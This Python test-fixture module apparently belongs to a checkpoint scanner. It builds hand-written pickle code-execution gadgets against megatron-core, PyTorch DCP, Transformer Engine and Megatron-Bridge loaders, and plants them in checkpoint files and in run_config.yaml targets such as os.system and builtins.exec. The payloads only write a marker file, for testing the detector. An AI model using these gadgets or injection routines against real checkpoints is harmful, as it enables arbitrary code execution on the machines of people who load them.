"""Code-execution gadgets for the loaders' pickles, and the carriers that put them where a loader reads them.

Each :class:`Gadget` is a pickle (protocol-2 opcodes, written by hand) whose real unpickling creates one marker
file and returns something harmless. A real load of a checkpoint runs it: PyTorch DCP reads ``.metadata`` with
plain ``pickle.load``; megatron-core reads the common state and every ShardedObject with
``torch.load(weights_only=False)``; Transformer Engine < 2.18 ``pickle.loads`` the uint8 tensor of
``_extra_state``; Megatron-Bridge ``torch.load``\\ s its train state and instantiates ``run_config.yaml``'s
``_target_``\\ s. ``runs_under_megatron``: confirmed by tests/test_gate_corpus_mcore (tests/mcore_load_gadget.py),
a real megatron-core 0.19.2 load or ``pickle.loads`` with megatron-core importable.

The megatron-core 0.19.2 helpers used (its wheel also ships ``megatron.training``):

* ``megatron.core.transformer.spec_utils``: ``import_module((module, name))`` returns ``vars(module)[name]``;
  ``ModuleSpec((module, name))`` called, ``build_module(spec, *args)`` and ``get_module(spec)`` import it and call
  it with the caller's arguments;
* ``megatron.core.fp8_utils._resolve_callable_from_python_import_path("pkg.mod.func")``;
* ``megatron.core.transformer.custom_layers.batch_invariant_kernels._import_module_if_available(name)`` (any
  module) and ``megatron.core.tokenizers.megatron_tokenizer._get_tokenizer_model_class(lib, metadata)``
  (``getattr(metadata['tokenizer_class_path'], metadata['tokenizer_class_name'])``);
* ``megatron.training.config.instantiate_utils._locate("pkg.mod.name")`` (no allowlist, unlike ``instantiate``).

Carriers (:func:`plant`): ``metadata``, ``common_state_item``, ``common_pt``, ``sharded_object``, ``extra_state``,
``train_state``, ``latest_train_state``, ``tensor_chunk`` (only ``check --deep`` reads chunk blobs; a real DCP load
reads them with ``weights_only=True``) and ``run_config`` (``_target_`` gadgets only).

What the real loaders do with them (megatron-core 0.19.2, torch 2.13, confirmed by tests/mcore_load_gadget.py):
``.metadata``: ``pickle.load`` (runs); ``common_state/shard_0_1`` and every ShardedObject (``rng_state/...``):
DCP's ``DefaultLoadPlanner.load_bytes``, ``torch.load(weights_only=False)`` (runs, and the load then succeeds:
the spliced original object comes back); a legacy ``common.pt``: core 0.19.2's ``load_common`` calls ``torch.load``
with torch's default, ``weights_only=True`` since torch 2.6 (refused there; runs on older torch or with
``TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD``); ``_extra_state``'s uint8 tensor: Transformer Engine < 2.18's ``pickle.loads``
(not installed here). megatron-core also replaces ``torch.storage._load_from_bytes`` with a ``weights_only=True``
one when imported, so the nested gadget runs only under plain torch.
"""

from __future__ import annotations

import dataclasses
import io
import pickle
import shutil
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
FIXTURES = REPO / "fixtures"
ITER = "iter_0000010"
TRACKER = "latest_checkpointed_iteration.txt"
BRIDGE_TRACKER = "latest_train_state.pt"

# --- protocol-2 opcodes ---------------------------------------------------------------------------------

MARK, STOP, POP, NONE, TUPLE, REDUCE, BUILD = b"(", b".", b"0", b"N", b"t", b"R", b"b"
EMPTY_DICT, EMPTY_TUPLE, SETITEMS, NEWOBJ = b"}", b")", b"u", b"\x81"


def s(text: str) -> bytes:
    """BINUNICODE."""
    raw = text.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(raw)) + raw


def i(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def tup(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def call(fn: bytes, *args: bytes) -> bytes:
    """``fn(*args)``: ``fn`` is any opcodes leaving one object (a global, or a call's result)."""
    return fn + tup(*args) + REDUCE


def dct(*pairs: tuple[bytes, bytes]) -> bytes:
    return EMPTY_DICT + (MARK + b"".join(k + v for k, v in pairs) + SETITEMS if pairs else b"")


def build(obj: bytes, state: bytes) -> bytes:
    return obj + state + BUILD


def slot_state(**attrs: bytes) -> bytes:
    """BUILD state ``(None, {name: value})``: ``setattr(obj, name, value)`` per item (works on a class object)."""
    return tup(NONE, dct(*((s(k), v) for k, v in attrs.items())))


def newobj(cls: bytes) -> bytes:
    return cls + EMPTY_TUPLE + NEWOBJ


def as_bytes(data: bytes) -> bytes:
    """A bytes object the protocol-2 way: ``_codecs.encode(text, "latin1")``."""
    return call(glob("_codecs", "encode"), s(data.decode("latin1")), s("latin1"))


def complete(ops: bytes) -> bytes:
    """A whole pickle: the gadget, its result discarded, then None."""
    return b"\x80\x02" + ops + POP + NONE + STOP


def splice(ops: bytes, original: bytes) -> bytes:
    """``ops`` run before ``original`` (a whole pickle): a real ``pickle.load`` runs the gadget, discards its
    result and returns the original object. The original's PROTO is kept (first); its own opcodes follow."""
    if original[:1] == b"\x80":
        return original[:2] + ops + POP + original[2:]
    return b"\x80\x02" + ops + POP + original


def torch_zip_bytes(pickled: bytes) -> bytes:
    """A minimal torch.save-shaped archive around ``pickled`` (no tensors)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/byteorder", b"little")
        archive.writestr("archive/version", b"3\n")
    return buf.getvalue()


def splice_torch_zip(blob: bytes, ops: bytes) -> bytes:
    """The torch.save archive ``blob`` with ``ops`` spliced into its ``data.pkl``; every other record copied in
    order, stored (as torch writes them)."""
    src = zipfile.ZipFile(io.BytesIO(blob))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("/data.pkl") and info.filename.count("/") == 1:
                data = splice(ops, data)
            dst.writestr(zipfile.ZipInfo(info.filename, date_time=info.date_time), data)
    return out.getvalue()


# --- gadgets -----------------------------------------------------------------------------------------------

SPEC = "megatron.core.transformer.spec_utils"
TE_RECIPE = "transformer_engine.common.recipe"


def _open(marker: Path) -> tuple[bytes, bytes]:
    return s(str(marker)), s("w")


def _spec() -> bytes:
    return call(glob(SPEC, "ModuleSpec"), tup(s("builtins"), s("open")))


def _partial_open_w() -> bytes:
    """``functools.partial(open, mode="w")`` (keywords through partial's own __setstate__)."""
    p = call(glob("functools", "partial"), glob("builtins", "open"))
    return build(p, tup(glob("builtins", "open"), EMPTY_TUPLE, dct((s("mode"), s("w"))), NONE))


def _partial_open(marker: Path) -> bytes:
    return call(glob("functools", "partial"), glob("builtins", "open"), *_open(marker))


@dataclass(frozen=True)
class Gadget:
    name: str
    family: str
    globals: tuple[str, ...]  # module.name: the gate's finding names at least one of them
    ops: Callable[[Path], bytes] = field(repr=False)  # opcodes leaving one object on the stack
    runs_under_megatron: bool = False  # a real load (megatron-core 0.19.2 importable) runs it: confirmed
    real_run: bool = True  # safe and meaningful to unpickle for real (the marker appears); False: gate-only
    mutates: bool = False  # changes a shared class: unpickle only in a throwaway process
    unlisted: bool = False  # names an unlisted megatron/TE/nemo global (CKD402 today, an error now)
    target: str | None = None  # run_config.yaml gadgets: the _target_ (no pickle carrier)
    note: str = ""

    def payload(self, marker: Path) -> bytes:
        return complete(self.ops(marker))

    @property
    def carriers(self) -> tuple[str, ...]:
        return ("run_config",) if self.target else PICKLE_CARRIERS


def _g(name, family, globals_, ops, **kw) -> Gadget:
    return Gadget(name, family, tuple(globals_), ops, **kw)


GADGETS: list[Gadget] = [
    # megatron-core helpers that import a name given as data; the pickle then calls what they return
    _g(
        "mcore_spec_import_module",
        "megatron-helper",
        [f"{SPEC}.import_module"],
        lambda m: call(call(glob(SPEC, "import_module"), tup(s("builtins"), s("open"))), *_open(m)),
        runs_under_megatron=True,
        unlisted=True,
        note="import_module(('builtins', 'open'))(marker, 'w')",
    ),
    _g(
        "mcore_modulespec_call",
        "megatron-helper",
        [f"{SPEC}.ModuleSpec"],
        lambda m: call(_spec(), *_open(m)),
        runs_under_megatron=True,
        unlisted=True,
        note="ModuleSpec(('builtins', 'open'))(marker, 'w'): __call__ is build_module",
    ),
    _g(
        "mcore_build_module",
        "megatron-helper",
        [f"{SPEC}.build_module", f"{SPEC}.ModuleSpec"],
        lambda m: call(glob(SPEC, "build_module"), _spec(), *_open(m)),
        runs_under_megatron=True,
        unlisted=True,
    ),
    _g(
        "mcore_get_module",
        "megatron-helper",
        [f"{SPEC}.get_module", f"{SPEC}.ModuleSpec"],
        lambda m: call(call(glob(SPEC, "get_module"), _spec()), *_open(m)),
        runs_under_megatron=True,
        unlisted=True,
    ),
    _g(
        "mcore_fp8_resolve_callable",
        "megatron-helper",
        ["megatron.core.fp8_utils._resolve_callable_from_python_import_path"],
        lambda m: call(
            call(glob("megatron.core.fp8_utils", "_resolve_callable_from_python_import_path"), s("builtins.open")),
            *_open(m),
        ),
        runs_under_megatron=True,
        unlisted=True,
    ),
    _g(
        "mcore_tokenizer_getattr_chain",
        "megatron-helper",
        [
            "megatron.core.tokenizers.megatron_tokenizer._get_tokenizer_model_class",
            "megatron.core.transformer.custom_layers.batch_invariant_kernels._import_module_if_available",
        ],
        lambda m: call(
            call(
                glob("megatron.core.tokenizers.megatron_tokenizer", "_get_tokenizer_model_class"),
                s("x"),
                dct(
                    (s("tokenizer_class"), s("x")),
                    (
                        s("tokenizer_class_path"),
                        call(
                            glob(
                                "megatron.core.transformer.custom_layers.batch_invariant_kernels",
                                "_import_module_if_available",
                            ),
                            s("builtins"),
                        ),
                    ),
                    (s("tokenizer_class_name"), s("open")),
                ),
            ),
            *_open(m),
        ),
        runs_under_megatron=True,
        unlisted=True,
        note="any module through _import_module_if_available, any attribute through the tokenizer class lookup",
    ),
    _g(
        "mtraining_locate",
        "megatron-helper",
        ["megatron.training.config.instantiate_utils._locate"],
        lambda m: call(
            call(glob("megatron.training.config.instantiate_utils", "_locate"), s("builtins.open")), *_open(m)
        ),
        runs_under_megatron=True,
        unlisted=True,
    ),
    _g(
        "mcore_enum_class_setstate",
        "build-class-mutation",
        ["megatron.core.enums.ModelType", "functools.partial", "builtins.open"],
        lambda m: (
            build(glob("megatron.core.enums", "ModelType"), slot_state(__setstate__=_partial_open_w()))
            + POP
            + build(call(glob("megatron.core.enums", "ModelType"), i(1)), s(str(m)))
        ),
        runs_under_megatron=True,
        mutates=True,
        note="BUILD on the allowed enum class sets ModelType.__setstate__; BUILD on a member then calls it",
    ),
    # no megatron needed
    _g(
        "functools_partial_open",
        "functools",
        ["functools.partial", "builtins.open"],
        lambda m: call(_partial_open(m)),
        runs_under_megatron=True,
    ),
    _g(
        "operator_attrgetter_itemgetter",
        "operator",
        ["operator.attrgetter", "operator.itemgetter"],
        lambda m: call(
            call(
                call(glob("operator", "itemgetter"), s("open")),
                call(
                    call(glob("operator", "itemgetter"), s("__builtins__")),
                    call(
                        call(glob("operator", "attrgetter"), s("__init__.__globals__")), glob("argparse", "Namespace")
                    ),
                ),
            ),
            *_open(m),
        ),
        runs_under_megatron=True,
        note="argparse.Namespace.__init__.__globals__['__builtins__']['open']",
    ),
    _g(
        "operator_methodcaller",
        "operator",
        ["operator.methodcaller"],
        lambda m: call(
            _methodcall(
                "get",
                _methodcall(
                    "get",
                    _methodcall(
                        "__getattribute__",
                        _methodcall("__getattribute__", newobj(glob("argparse", "Namespace")), s("__init__")),
                        s("__globals__"),
                    ),
                    s("__builtins__"),
                ),
                s("open"),
            ),
            *_open(m),
        ),
        runs_under_megatron=True,
    ),
    _g(
        "builtins_getattr_chain",
        "getattr",
        ["builtins.getattr"],
        lambda m: call(
            _getattr_call(
                _getattr_call(
                    call(glob("builtins", "getattr"), glob("argparse", "Namespace"), s("__init__")),
                    "__globals__",
                    None,
                ),
                "get",
                s("__builtins__"),
                then=("get", s("open")),
            ),
            *_open(m),
        ),
        runs_under_megatron=True,
    ),
    _g(
        "torch_rebuild_from_type_v2",
        "torch-rebuild",
        ["torch._tensor._rebuild_from_type_v2", "builtins.open", "_io.TextIOWrapper"],
        lambda m: call(
            glob("torch._tensor", "_rebuild_from_type_v2"),
            glob("builtins", "open"),
            glob("_io", "TextIOWrapper"),
            tup(*_open(m)),
            EMPTY_DICT,
        ),
        runs_under_megatron=True,
        note="torch.Tensor.__reduce_ex__'s rebuild with any callable",
    ),
    _g(
        "torch_rebuild_from_type_v2_mcore",
        "torch-rebuild",
        ["torch._tensor._rebuild_from_type_v2", f"{SPEC}.ModuleSpec"],
        lambda m: call(
            glob("torch._tensor", "_rebuild_from_type_v2"),
            _spec(),
            glob("_io", "TextIOWrapper"),
            tup(*_open(m)),
            EMPTY_DICT,
        ),
        runs_under_megatron=True,
        unlisted=True,
        note="the callable is an unlisted megatron object built by the same pickle",
    ),
    _g(
        "te_custom_recipe",
        "te-recipe",
        [f"{TE_RECIPE}.CustomRecipe"],
        lambda m: build(call(glob(TE_RECIPE, "CustomRecipe")), dct((s("qfactory"), s("builtins.open")))),
        real_run=False,
        unlisted=True,
        note="an unlisted TE recipe class (TE 2.x CustomRecipe calls its qfactory); TE is not installed here",
    ),
    _g(
        "te_delayed_scaling_callable",
        "te-recipe",
        ["functools.partial", "builtins.open"],
        lambda m: build(call(glob(TE_RECIPE, "DelayedScaling")), dct((s("amax_compute_algo"), _partial_open(m)))),
        real_run=False,
        note="an allowed TE recipe whose amax_compute_algo (TE calls it) is a callable",
    ),
    _g(
        "te_recipe_class_mutation",
        "build-class-mutation",
        [f"{TE_RECIPE}.DelayedScaling", "functools.partial", "builtins.open"],
        lambda m: build(glob(TE_RECIPE, "DelayedScaling"), slot_state(__setstate__=_partial_open_w())),
        real_run=False,
        mutates=True,
    ),
    _g(
        "namespace_class_setstate",
        "build-class-mutation",
        ["argparse.Namespace", "functools.partial", "builtins.open"],
        lambda m: (
            build(glob("argparse", "Namespace"), slot_state(__setstate__=_partial_open_w()))
            + POP
            + build(newobj(glob("argparse", "Namespace")), s(str(m)))
        ),
        runs_under_megatron=True,
        mutates=True,
        note="BUILD on the class argparse.Namespace sets its __setstate__; BUILD on an instance calls it",
    ),
    _g(
        "slot_state_class_swap",
        "build-slot-state",
        ["argparse.Namespace", f"{SPEC}.ModuleSpec"],
        lambda m: call(
            build(
                newobj(glob("argparse", "Namespace")),
                tup(
                    dct(
                        (s("module"), tup(s("builtins"), s("open"))),
                        (s("params"), EMPTY_DICT),
                        (s("submodules"), NONE),
                        (s("metainfo"), EMPTY_DICT),
                    ),
                    dct((s("__class__"), glob(SPEC, "ModuleSpec"))),
                ),
            ),
            *_open(m),
        ),
        runs_under_megatron=True,
        unlisted=True,
        note="slot state sets __class__ of a Namespace to ModuleSpec; the pickle then calls it",
    ),
    _g(
        "slot_state_reduce",
        "build-slot-state",
        ["argparse.Namespace", "functools.partial", "builtins.open"],
        lambda m: build(newobj(glob("argparse", "Namespace")), slot_state(__reduce__=_partial_open(m))),
        real_run=False,
        note="an instance __reduce__: runs when the object is pickled again (a re-save, ckptdoctor's write-back)",
    ),
    _g(
        "ordereddict_class_build",
        "build-class-mutation",
        ["collections.OrderedDict"],
        lambda m: build(glob("collections", "OrderedDict"), slot_state(__kwdefaults__=dct((s("x"), i(1))))),
        real_run=False,
        mutates=True,
        note="BUILD on the OrderedDict global itself (ckptdoctor's resolver answers it with a shared function)",
    ),
    _g(
        "copyreg_reconstructor_mcore",
        "copyreg",
        ["copyreg._reconstructor", f"{SPEC}.ModuleSpec"],
        lambda m: call(
            build(
                call(glob("copyreg", "_reconstructor"), glob(SPEC, "ModuleSpec"), glob("builtins", "object"), NONE),
                dct(
                    (s("module"), tup(s("builtins"), s("open"))),
                    (s("params"), EMPTY_DICT),
                    (s("submodules"), NONE),
                    (s("metainfo"), EMPTY_DICT),
                ),
            ),
            *_open(m),
        ),
        runs_under_megatron=True,
        unlisted=True,
    ),
    _g(
        "numpy_reconstruct_namespace",
        "numpy-reconstruct",
        ["numpy.core.multiarray._reconstruct", "argparse.Namespace"],
        lambda m: call(glob("numpy.core.multiarray", "_reconstruct"), glob("argparse", "Namespace"), tup(i(0)), s("b")),
        real_run=False,
        note="_reconstruct of a subtype that is not an ndarray (numpy refuses it; the gate must too)",
    ),
    _g(
        "numpy_reconstruct_memmap",
        "numpy-reconstruct",
        ["numpy.core.multiarray._reconstruct", "numpy.memmap"],
        lambda m: call(glob("numpy.core.multiarray", "_reconstruct"), glob("numpy", "memmap"), tup(i(0)), s("b")),
        real_run=False,
    ),
    _g(
        "nested_load_from_bytes",
        "nested-torch-load",
        ["torch.storage._load_from_bytes", "functools.partial", "builtins.open"],
        lambda m: call(
            glob("torch.storage", "_load_from_bytes"),
            as_bytes(torch_zip_bytes(complete(GADGET["functools_partial_open"].ops(m)))),
        ),
        note="plain torch: torch.load(weights_only=False) of a torch.save archive holding another gadget; "
        "megatron-core (imported) replaces _load_from_bytes with a weights_only=True one, so not under megatron",
    ),
    _g(
        "nemo_import_class_by_path",
        "nemo-helper",
        ["nemo.utils.model_utils.import_class_by_path"],
        lambda m: call(call(glob("nemo.utils.model_utils", "import_class_by_path"), s("builtins.open")), *_open(m)),
        real_run=False,
        unlisted=True,
        note="NeMo's import_class_by_path (NeMo not installed here)",
    ),
]


def _methodcall(method: str, obj: bytes, *args: bytes) -> bytes:
    return call(call(glob("operator", "methodcaller"), s(method), *args), obj)


def _getattr_call(obj: bytes, attr: str, arg: bytes | None, then: tuple[str, bytes] | None = None) -> bytes:
    """``getattr(obj, attr)`` (called with ``arg`` if given), then optionally ``getattr(_, m)(a)``."""
    out = call(glob("builtins", "getattr"), obj, s(attr))
    if arg is not None:
        out = call(out, arg)
    if then is not None:
        out = call(call(glob("builtins", "getattr"), out, s(then[0])), then[1])
    return out


_NO_PICKLE = lambda m: NONE  # noqa: E731  # run_config gadgets have no pickle

RUN_CONFIG_GADGETS = [
    _g(
        "bridge_target_exec", "run-config-target", ["builtins.exec"], _NO_PICKLE, real_run=False, target="builtins.exec"
    ),
    _g("bridge_target_os_system", "run-config-target", ["os.system"], _NO_PICKLE, real_run=False, target="os.system"),
    _g(
        "bridge_target_nonprovider",
        "run-config-target",
        ["megatron.bridge.training.checkpointing.save_checkpoint"],
        _NO_PICKLE,
        real_run=False,
        target="megatron.bridge.training.checkpointing.save_checkpoint",
    ),
    _g(
        "bridge_target_mcore_helper",
        "run-config-target",
        [f"{SPEC}.import_module"],
        _NO_PICKLE,
        real_run=False,
        target=f"{SPEC}.import_module",
    ),
]

ALL_GADGETS = GADGETS + RUN_CONFIG_GADGETS
GADGET = {g.name: g for g in ALL_GADGETS}

# --- carriers ----------------------------------------------------------------------------------------------

PICKLE_CARRIERS = (
    "metadata",
    "common_state_item",
    "common_pt",
    "sharded_object",
    "extra_state",
    "train_state",
    "latest_train_state",
    "tensor_chunk",
)
CARRIERS = (*PICKLE_CARRIERS, "run_config")
CARRIER_FIXTURE = {
    "metadata": "core019_tp2",
    "common_state_item": "core019_tp2",
    "common_pt": "core016_tp1",
    "sharded_object": "core019_tp2",
    "extra_state": "core019_tp2",
    "train_state": "core019_tp2",
    "latest_train_state": "core019_tp2",
    "tensor_chunk": "core019_tp2",
    "run_config": "core019_tp2",
}
COMMON_ITEM = "common_state/shard_0_1"
RNG_PREFIX = "rng_state/"
EXTRA_STATE_ITEM = "decoder.layers.mlp.linear_fc1._extra_state/shard_0_2"
CHUNK_KEY = "embedding.word_embeddings.weight"
BRIDGE_STATES = FIXTURES / "bridge_train_state"


@dataclass(frozen=True)
class Planted:
    save_dir: Path
    iter_dir: Path
    file: Path  # the file holding the gadget
    item: str | None  # the .metadata key of the poisoned bytes item or chunk
    carrier: str


def pairs() -> list[tuple[Gadget, str]]:
    """Every (gadget, carrier) that makes sense."""
    return [(g, c) for g in ALL_GADGETS for c in g.carriers]


def _load_metadata(iter_dir: Path):
    with open(iter_dir / ".metadata", "rb") as f:
        import torch.distributed.checkpoint.metadata  # noqa: F401  # the classes pickle.load needs

        return pickle.load(f)


def _save_metadata(iter_dir: Path, metadata) -> None:
    with open(iter_dir / ".metadata", "wb") as f:
        pickle.dump(metadata, f)


def _storage_key(metadata, fqn: str, index: int = 0):
    keys = sorted(
        (k for k in metadata.storage_data if k.fqn == fqn), key=lambda k: (k.index or 0, tuple(k.offset or ()))
    )
    if not keys:
        raise KeyError(fqn)
    return keys[index]


def replace_item(iter_dir: Path, fqn: str, rewrite: Callable[[bytes], bytes], index: int = 0) -> Path:
    """Rewrite the bytes of ``fqn``'s item (or chunk ``index``): the new bytes appended to its data file, and
    ``.metadata``'s storage entry pointed there (real torch loads and saves the Metadata object)."""
    metadata = _load_metadata(iter_dir)
    key = _storage_key(metadata, fqn, index)
    info = metadata.storage_data[key]
    path = iter_dir / info.relative_path
    data = path.read_bytes()
    new = rewrite(data[info.offset : info.offset + info.length])
    with open(path, "ab") as f:
        f.write(new)
    metadata.storage_data[key] = dataclasses.replace(info, offset=len(data), length=len(new))
    _save_metadata(iter_dir, metadata)
    return path


def _item_keys(iter_dir: Path, prefix: str) -> list[str]:
    return sorted({k.fqn for k in _load_metadata(iter_dir).storage_data if k.fqn.startswith(prefix)})


def _te_extra_state(ops: bytes) -> Callable[[bytes], bytes]:
    def rewrite(_old: bytes) -> bytes:
        import torch

        buf = io.BytesIO()
        torch.save([torch.frombuffer(bytearray(complete(ops)), dtype=torch.uint8)], buf)
        return buf.getvalue()

    return rewrite


def _copy(fixture: str, dest: Path) -> tuple[Path, Path]:
    shutil.copytree(FIXTURES / fixture, dest)
    return dest, dest / ITER


def bridge_save(dest: Path) -> tuple[Path, Path]:
    """A Megatron-Bridge save dir (tests/test_bridge_tracker.py's): core019_tp2 with its train state files."""
    save, iter_dir = _copy("core019_tp2", dest)
    shutil.copy(BRIDGE_STATES / "train_state_step10.pt", iter_dir / "train_state.pt")
    shutil.copy(iter_dir / "train_state.pt", save / BRIDGE_TRACKER)
    return save, iter_dir


RUN_CONFIG = """\
model:
  _target_: {target}
  tensor_model_parallel_size: 2
  pipeline_model_parallel_size: 1
  num_layers: 2
checkpoint:
  save_rng: true
"""


def plant(carrier: str, gadget: Gadget, dest: Path, marker: Path) -> Planted:
    """A copy of the carrier's fixture at ``dest`` (the save dir) with ``gadget`` where a loader reads it."""
    if carrier not in gadget.carriers:
        raise ValueError(f"{gadget.name} does not go in {carrier}")
    ops = gadget.ops(marker)
    item = None
    if carrier in ("train_state", "latest_train_state", "run_config"):
        save, iter_dir = bridge_save(dest)
    else:
        save, iter_dir = _copy(CARRIER_FIXTURE[carrier], dest)
    if carrier == "metadata":
        file = iter_dir / ".metadata"
        file.write_bytes(splice(ops, file.read_bytes()))
    elif carrier == "common_pt":
        file = iter_dir / "common.pt"
        file.write_bytes(splice_torch_zip(file.read_bytes(), ops))
    elif carrier in ("common_state_item", "sharded_object"):
        item = COMMON_ITEM if carrier == "common_state_item" else _item_keys(iter_dir, RNG_PREFIX)[0]
        file = replace_item(iter_dir, item, lambda old: splice_torch_zip(old, ops))
    elif carrier == "extra_state":
        item = EXTRA_STATE_ITEM
        file = replace_item(iter_dir, item, _te_extra_state(ops))
    elif carrier == "tensor_chunk":
        item = CHUNK_KEY
        file = replace_item(iter_dir, item, lambda old: splice_torch_zip(old, ops))
    elif carrier == "train_state":
        file = iter_dir / "train_state.pt"
        file.write_bytes(splice_torch_zip(file.read_bytes(), ops))
    elif carrier == "latest_train_state":
        file = save / BRIDGE_TRACKER
        file.write_bytes(splice_torch_zip(file.read_bytes(), ops))
    elif carrier == "run_config":
        file = iter_dir / "run_config.yaml"
        file.write_text(RUN_CONFIG.format(target=gadget.target))
    else:
        raise ValueError(carrier)
    return Planted(save, iter_dir, file, item, carrier)
